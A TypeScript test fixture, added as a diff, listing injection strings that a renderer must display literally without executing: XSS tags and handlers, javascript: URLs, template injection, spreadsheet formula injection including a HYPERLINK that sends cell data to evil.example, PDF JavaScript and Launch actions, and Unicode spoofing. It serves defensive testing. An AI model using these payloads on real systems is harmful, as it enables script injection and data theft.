@@ -1,0 +1,92 @@
+/**
+ * Texts that run, open or break something where text is not treated as text. Those with a script call `ran`, which the
+ * tests listen to. None may ever be called, and each has to stand on the screen as it is here.
+ */
+export const corpus: readonly string[] = [
+  // Tags.
+  '<script>ran(1)</script>',
+  '<ScRiPt src="data:text/javascript,ran(2)"></ScRiPt>',
+  '</textarea><script>ran(3)</script>',
+  '</style><script>ran(4)</script>',
+  '--><script>ran(5)</script><!--',
+  '<img src=x onerror=ran(6)>',
+  '"><img src=x onerror="ran(7)">',
+  "'><img src=x onerror='ran(8)'>",
+  '<iframe srcdoc="<script>parent.ran(9)</script>"></iframe>',
+  '<object data="javascript:ran(10)"></object>',
+  '<embed src="javascript:ran(11)">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:ran(12)">',
+  '<link rel="stylesheet" href="https://evil.example/a.css">',
+  '<form action="javascript:ran(13)"><button>Verder</button></form>',
+  '<details open ontoggle=ran(14)>',
+  '<input autofocus onfocus=ran(15)>',
+  '<body onload=ran(16)>',
+  '<marquee onstart=ran(17)>tekst</marquee>',
+  '<template><img src=x onerror=ran(18)></template>',
+  '<template shadowrootmode=open><slot onslotchange=ran(19)></template>',
+  // Pictures that carry scripts.
+  '<svg onload=ran(20)>',
+  '<svg><script>ran(21)</script></svg>',
+  '<svg><animate onbegin=ran(22) attributeName=x dur=1s>',
+  '<svg><foreignObject><img src=x onerror=ran(23)></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=ran(24)>',
+  // Addresses.
+  'javascript:ran(25)',
+  'java\tscript:ran(26)',
+  'data:text/html,<script>ran(27)</script>',
+  '<a href="javascript:ran(28)">klik</a>',
+  '[klik](javascript:ran(29))',
+  // Handlers and attributes.
+  '" onmouseover="ran(30)" x="',
+  "' autofocus onfocus='ran(31)' x='",
+  '` onclick=`ran(32)`',
+  // Templates.
+  '${ran(33)}',
+  '{{constructor.constructor("ran(34)")()}}',
+  '<%= ran(35) %>',
+  '#{ran(36)}',
+  '<?lit$1234567890$?>',
+  'lit$0123456789$',
+  '<!--?lit$1234567890$-->',
+  '{"_$litType$":1,"strings":["<img src=x onerror=ran(37)>"]}',
+  // Scripts and styles around it.
+  '"];ran(38);//',
+  "');ran(39);//",
+  '\\u003cscript\\u003eran(40)\\u003c/script\\u003e',
+  '\\x3cimg src=x onerror=ran(41)\\x3e',
+  '&lt;script&gt;ran(42)&lt;/script&gt;',
+  '&#x3c;img src=x onerror=ran(43)&#x3e;',
+  'red;}*{background:url(https://evil.example/)}',
+  '</style><style>@import "https://evil.example/a.css";</style>',
+  'expression(ran(44))',
+  // Names of JavaScript.
+  '__proto__',
+  'constructor',
+  'toString',
+  '[object Object]',
+  // Signs that turn, hide or vanish.
+  '\u202egpj.exe\u202c',
+  'a\u200b<b>\u200c</b>\u200d',
+  '\ufeff<script>ran(45)</script>',
+  '<\u0000script>ran(46)</script>',
+  '\uff1cscript\uff1eran(47)\uff1c/script\uff1e',
+  '<img src=x onerror=ran\u2028(48)>',
+  'e\u0301\u0323\u0307\u0308 combi',
+  // Sheets.
+  '=HYPERLINK("https://evil.example/?"&A1,"klik")',
+  "=cmd|'/c calc'!A0",
+  '+1+cmd|"/c calc"!A0',
+  '-2+3+cmd|"/c calc"!A0',
+  '@SUM(1+1)*cmd|"/c calc"!A0',
+  '\t=1+1',
+  '"=1+1"',
+  // PDF.
+  ') Tj ET /JavaScript (ran(49))',
+  '\\) /OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
+  'endstream endobj 9 0 obj << /S /Launch /F (calc.exe) >> endobj',
+  '<</URI (javascript:ran(50))>>',
+  '%PDF-1.7 %%EOF',
+  // Addresses of people with something in them: the guard repeats what it finds.
+  'Bel 06-12345678 <img src=x onerror=ran(51)> of <b>jan@example.org</b>',
+];
